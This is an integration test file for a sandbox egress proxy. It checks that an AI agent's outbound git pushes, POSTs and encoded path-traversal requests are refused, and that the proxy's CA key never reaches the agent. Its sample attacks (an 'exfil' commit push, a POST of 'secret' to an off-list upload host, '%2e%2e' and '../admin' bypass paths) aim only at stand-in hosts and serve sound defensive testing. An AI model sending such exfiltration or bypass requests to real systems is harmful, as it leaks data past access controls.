"""Egress rules by method and path on the real proxy: squid decrypts the hosts that carry
rules with the session's CA and checks each request; the rest stay tunnels.

Every refusal is paired with a control: the same request sent straight from a container
on the egress network (no proxy) succeeds, so the refusal is the proxy's doing. Everything
goes to the stand-in this module starts (network aliases for the real names)."""

from __future__ import annotations

import json
import secrets
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.integration import egress_standin
from tests.integration.canary import start_control, wait_until
from tests.integration.egress_standin import EgressStandIn
from tests.integration.helpers import (
    BASE_IMAGE,
    PROXY_BASE_IMAGE,
    Paude,
    make_home,
    make_repo,
    podman,
    remove_session_objects,
)
from tests.integration.model_standin import standin_ca

pytestmark = [pytest.mark.requires_podman, pytest.mark.requires_pulumi, pytest.mark.slow]

API = "api.paude-test.example"
PLAIN = "plain.paude-test.example"
CLONE_URL = "https://github.com/org/project.git"


@dataclass(frozen=True)
class Egress:
    paude: Paude
    standin: EgressStandIn
    control: str

    @property
    def agent(self) -> str:
        return f"paude-{self.paude.session}-agent"

    def agent_sh(self, script: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["podman", "exec", "-w", "/tmp", self.agent, "sh", "-c", script],
                              capture_output=True, text=True, timeout=120)

    def control_sh(self, script: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["podman", "exec", "-w", "/tmp", "-e", "SSL_CERT_FILE=/ca.crt",
                               "-e", "GIT_SSL_CAINFO=/ca.crt", self.control, "sh", "-c",
                               script], capture_output=True, text=True, timeout=120)

    def status(self, where: str, *curl: str) -> str:
        """The HTTP status of a curl request from the agent (through the proxy) or the
        control (direct)."""
        script = "curl -s -o /dev/null -w '%{http_code}' " + " ".join(curl)
        result = self.agent_sh(script) if where == "agent" else self.control_sh(script)
        return result.stdout.strip()

    def audit(self) -> list[dict[str, Any]]:
        records: list[dict[str, Any]] = json.loads(self.paude.ok(
            "log", self.paude.session, "--json", "--last", "0").stdout)
        return records


def _definition(session: str) -> dict[str, Any]:
    return {
        "version": 1,
        "defaults": {"agent": {"install": "none", "command": ["bash"]},
                     "image": {"base": BASE_IMAGE, "ca_certificates": [str(standin_ca())]}},
        "sessions": {session: {
            "allowed_domains": [
                "github", "pypi", PLAIN,
                {"host": API, "methods": ["GET"], "paths": ["/v1/", "~^/v2/items/[0-9]+$"]}],
            "denied_requests": [{"host": API, "paths": ["/v1/secret"]}],
        }},
    }


@pytest.fixture(scope="module")
def egress(paude_exe: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Egress]:
    root = tmp_path_factory.mktemp("egress-rules")
    session = f"it-{secrets.token_hex(3)}"
    repo = make_repo(root / "repo")
    (repo / "paude.yaml").write_text(yaml.safe_dump(_definition(session)))
    paude = Paude(paude_exe, make_home(root / "paude-home"), repo, session)
    try:
        paude.ok("apply", session, "--yes")
        network = f"paude-{session}-egress"
        standin = egress_standin.start(f"{session}-forge", network, session=session,
                                       folder=root / "certs")
        control = start_control(f"{session}-control", [network], session=session)
        podman("cp", str(standin_ca()), f"{control}:/ca.crt")
        yield Egress(paude, standin, control)
    finally:
        remove_session_objects(session)


def test_clone_works_and_push_is_refused(egress: Egress) -> None:
    clone = egress.agent_sh(f"rm -rf p && git clone -q {CLONE_URL} p && cat p/README")
    assert clone.returncode == 0, clone.stderr
    assert clone.stdout == "upstream\n"
    before = egress.standin.refs()
    push = egress.agent_sh("cd p && git checkout -qb agent-branch && echo stolen > s && "
                           "git add s && git -c user.name=A -c user.email=a@example.com "
                           "commit -qm exfil && git push -q origin agent-branch")
    assert push.returncode != 0
    assert "403" in push.stderr, push.stderr
    assert egress.standin.refs() == before
    assert not any("receive-pack" in r["path"] for r in egress.standin.requests())

    # Control: the same push straight to the stand-in lands.
    direct = egress.control_sh(f"rm -rf p && git clone -q {CLONE_URL} p && cd p && "
                               "git checkout -qb control-branch && echo c > c && git add c && "
                               "git -c user.name=C -c user.email=c@example.com commit -qm c && "
                               "git push -q origin control-branch")
    assert direct.returncode == 0, direct.stderr
    assert "refs/heads/control-branch" in egress.standin.refs()

    refused = [r for r in egress.audit() if r["decision"] == "deny" and r["host"] == "github.com"]
    assert refused and refused[0]["rule"] == "github"
    assert "git-receive-pack" in refused[0]["path"]
    blocked = json.loads(egress.paude.ok("blocked", egress.paude.session, "--json").stdout)
    assert any(b["host"] == "github.com" and b["rule"] == "github" for b in blocked)


def test_get_only_host_refuses_post(egress: Egress) -> None:
    url = "https://pypi.org/legacy/"
    assert egress.status("agent", url) == "200"
    assert egress.status("agent", "-X", "POST", "-d", "upload=1", url) == "403"
    assert egress.status("control", "-X", "POST", "-d", "upload=1", url) == "200"
    posts = [r for r in egress.standin.requests() if r["method"] == "POST"
             and r["host"] == "pypi.org"]
    assert len(posts) == 1  # the control's only


def test_path_rules_and_denied_paths(egress: Egress) -> None:
    base = f"https://{API}"
    assert egress.status("agent", f"{base}/v1/items") == "200"
    assert egress.status("agent", f"{base}/v2/items/42") == "200"
    assert egress.status("agent", f"{base}/v2/items/42/delete") == "403"
    assert egress.status("agent", f"{base}/admin") == "403"
    assert egress.status("agent", f"{base}/v1/secret/keys") == "403"
    assert egress.status("agent", "-X", "POST", f"{base}/v1/items") == "403"
    # Paths a server could read differently from the rule are refused outright.
    assert egress.status("agent", "--path-as-is", f"{base}/v1/../admin") == "403"
    assert egress.status("agent", f"{base}/v1/%2e%2e/admin") == "403"
    assert egress.status("agent", f"{base}/v1/%73ecret") == "403"
    for path in ("/admin", "/v1/secret/keys", "/v2/items/42/delete"):
        assert egress.status("control", f"{base}{path}") == "200"
    records = {(r["method"], r["path"]): r for r in egress.audit() if r["host"] == API}
    assert records[("GET", "/v1/secret/keys")]["rule"] == "denied_requests[0]"
    assert records[("GET", "/admin")]["rule"] == "no-matching-rule"
    assert records[("GET", "/v1/items")]["rule"] == "allowed_domains[3]"
    assert records[("GET", "/v1/items")]["inspected"] is True


def test_a_large_inspected_response_arrives_intact(egress: Egress) -> None:
    # squid decrypts, checks and re-encrypts the body, passing it on in HTTP_REQBUF_SZ
    # pieces (64 KB in the proxy base `make setup` builds): every byte must arrive, in order.
    size = 20 * 1024 * 1024 + 12345  # not a multiple of any buffer size
    script = f"curl -sSf https://{{host}}/v1/blob/{size} | sha256sum"
    inspected = egress.agent_sh(script.format(host=API))
    tunnelled = egress.agent_sh(script.format(host=PLAIN))
    direct = egress.control_sh(script.format(host=API))  # control: straight from the server
    for result in (inspected, tunnelled, direct):
        assert result.returncode == 0, result.stderr
    digest = direct.stdout.split()[0]
    assert inspected.stdout.split()[0] == digest
    assert tunnelled.stdout.split()[0] == digest
    blob = [r for r in egress.audit() if r["host"] == API and "/blob/" in r["path"]]
    assert blob and blob[-1]["inspected"] is True and blob[-1]["decision"] == "allow"


@pytest.mark.skipif(PROXY_BASE_IMAGE == BASE_IMAGE,
                    reason="the proxy's base is the plain base image (Debian's squid)")
def test_the_proxy_runs_the_rebuilt_squid(egress: Egress) -> None:
    # What CI's proxies run is what `make setup` gives users: Debian's squid rebuilt with a
    # 64 KB client buffer (scripts/build-proxy-base.sh), unless the archive has a newer one.
    proxy = f"paude-{egress.paude.session}-proxy"
    shown = podman("exec", proxy, "/usr/sbin/squid", "-v").stdout
    packaged = podman("exec", proxy, "dpkg-query", "-W", "-f", "${Version}",
                      "squid-openssl").stdout
    built = podman("run", "--rm", PROXY_BASE_IMAGE, "dpkg-query", "-W", "-f", "${Version}",
                   "squid-openssl").stdout
    if packaged == built:
        assert "paude rebuild: HTTP_REQBUF_SZ 65536" in shown, shown
    else:  # the archive has a newer squid since the proxy base was built: Debian's wins
        assert "paude rebuild" not in shown, (packaged, built, shown)


def test_hosts_without_rules_stay_tunnels(egress: Egress) -> None:
    # A client that pins the forge's real CA sees its real certificate through a tunnel.
    podman("cp", str(standin_ca()), f"{egress.agent}:/tmp/standin-ca.crt")
    pinned = "--cacert /tmp/standin-ca.crt"
    assert egress.status("agent", pinned, "-X", "POST", f"https://{PLAIN}/anything") == "200"
    tunnel = [r for r in egress.audit() if r["host"] == PLAIN]
    assert tunnel and tunnel[-1]["method"] == "CONNECT" and not tunnel[-1]["inspected"]

    # The same pinned client fails closed against an inspected host, and the log says why.
    failed = egress.agent_sh(f"curl -sS -o /dev/null {pinned} https://{API}/v1/items")
    assert failed.returncode != 0
    assert "certificate" in failed.stderr.lower() or "issuer" in failed.stderr.lower()

    def logged() -> bool:
        return any(r["host"] == API and r["method"] == "CONNECT" and r["error"]
                   for r in egress.audit())

    wait_until(logged, timeout=10, what="the failed handshake in the audit log")


def test_names_off_the_list_stay_refused_with_inspection_on(egress: Egress) -> None:
    # squid answers a refused CONNECT on an inspecting port inside TLS (a 403 page for the
    # request, under the session CA): the request still goes nowhere.
    before = len(egress.standin.requests())
    result = egress.agent_sh("curl -s -o /dev/null -w '%{http_connect} %{http_code}' "
                             "-X POST -d secret https://offlist.paude-test.example/upload")
    assert "403" in result.stdout.split(), result.stdout
    assert len(egress.standin.requests()) == before
    refused = [r for r in egress.audit() if r["host"] == "offlist.paude-test.example"]
    assert refused and all(r["decision"] == "deny" for r in refused)
    assert refused[0]["rule"] == "not-allowed"
    # Control: the same POST sent directly arrives.
    direct = egress.control_sh("curl -s -o /dev/null -w '%{http_code}' -X POST -d c "
                               "https://offlist.paude-test.example/upload")
    assert direct.stdout == "200"


def test_ca_key_only_in_the_proxy(egress: Egress) -> None:
    session = egress.paude.session
    proxy_key = podman("exec", f"paude-{session}-proxy", "cat",
                       "/etc/squid/paude/ca.key").stdout
    assert "PRIVATE KEY" in proxy_key  # control: the proxy holds it
    body = "".join(proxy_key.splitlines()[1:-1])[:40]
    agent = podman("exec", "-u", "root", egress.agent, "sh", "-c",
                   f"grep -rlsF '{body}' / --exclude-dir=proc --exclude-dir=sys; env").stdout
    assert body not in agent and "PRIVATE KEY" not in podman("inspect", egress.agent).stdout
    # squid itself runs without the key in its environment (the entrypoint unset it).
    squid_env = podman("exec", f"paude-{session}-proxy", "cat", "/proc/1/environ").stdout
    assert "PAUDE_CA_CERT" in squid_env and "PAUDE_CA_KEY" not in squid_env
